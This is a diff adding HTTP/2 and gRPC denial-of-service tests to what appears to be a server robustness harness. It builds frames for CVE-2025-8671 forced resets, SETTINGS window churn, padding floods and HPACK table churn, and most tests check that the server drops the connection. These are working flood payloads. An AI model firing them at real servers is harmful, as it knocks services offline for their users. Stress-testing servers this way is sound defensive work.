@@ -210,6 +210,52 @@ def rapid_reset(address: str, seconds: float) -> None:
     grpc_storm(data)(address, seconds)
 
 
+def reset_me(address: str, seconds: float) -> None:
+    """CVE-2025-8671: calls are begun, and each breaks a rule of its own, so that the server resets it."""
+    data = b"".join(
+        headers(2 * number + 1, WATCH) + frame2(DATA2, 1, 2 * number + 1, message())
+        + frame2(WINDOW2, 0, 2 * number + 1, b"\0\0\0\0") for number in range(2000))
+    grpc_storm(data)(address, seconds)
+
+
+def window_changes(address: str, seconds: float) -> None:
+    """A thousand streams, and settings that change all their windows thousands of times."""
+    peer = HTTP2(address)
+    peer.send(b"".join(headers(2 * number + 1, REFLECTION) for number in range(1000)))
+    sizes = b"".join(struct.pack(">HI", 4, size) for size in (0, 65_535) * 1350)
+    for _ in range(60):
+        peer.send(frame2(SETTINGS, 0, 0, sizes))
+    peer.send(call(2001, HEALTH))
+    expect(peer.until_ended(2001), "settings within the bound end the connection")
+    peer.close()
+
+
+def padding(address: str, seconds: float) -> None:
+    """A stream of nothing but padding, which counts in the windows and is given back."""
+    peer = HTTP2(address)
+    peer.send(headers(1, REFLECTION))
+    for _ in range(20):
+        peer.send(frame2(DATA2, 8, 1, b"\xff" + bytes(255)) * 500)
+    peer.send(frame2(DATA2, 1, 1))
+    expect(peer.until_ended(1), "padding ends the connection")
+    peer.close()
+
+
+def table_changes(address: str, seconds: float) -> None:
+    """Calls that each put another large field into the table, and empty the table again."""
+    peer = HTTP2(address)
+    for number in range(0, 2000, 100):
+        data = b""
+        for stream in range(number, number + 100):
+            block = headers(1, HEALTH)[9:] + b"\x40\x01x\x7f\xb9\x16" + b"%03000d" % stream
+            if stream % 3 == 0:
+                block = b"\x20\x3f\xe1\x1f" + block
+            data += frame2(HEADERS, 4, 2 * stream + 1, block) + frame2(DATA2, 1, 2 * stream + 1, message())
+        peer.send(data)
+        expect(peer.until_ended(2 * (number + 99) + 1), "a table that changes ends the connection")
+    peer.close()
+
+
 def header_floods(address: str, seconds: float) -> None:
     """Blocks of headers that do not end, or that grow as they are unpacked."""
     big = b"".join(header(f"key-{number}", "v" * 4000) for number in range(100))
@@ -393,6 +439,10 @@ ATTACKS = [
     ("native: wrong fields and states", "reason=", native_states),
     ("native: bombs", "", native_bombs),
     ("gRPC: rapid reset", "reason=", rapid_reset),
+    ("gRPC: reset by the server", "reason=", reset_me),
+    ("gRPC: window changes", "", window_changes),
+    ("gRPC: padding", "", padding),
+    ("gRPC: table changes", "", table_changes),
     ("gRPC: ping storm", "too_many_pings", grpc_storm(frame2(PING2, 0, 0, b"12345678") * 5000)),
     ("gRPC: settings storm", "reason=", grpc_storm(frame2(SETTINGS, 0, 0) * 5000)),
     ("gRPC: priority storm", "reason=", grpc_storm(frame2(PRIORITY, 0, 1, b"\0\0\0\0\x09") * 20_000)),
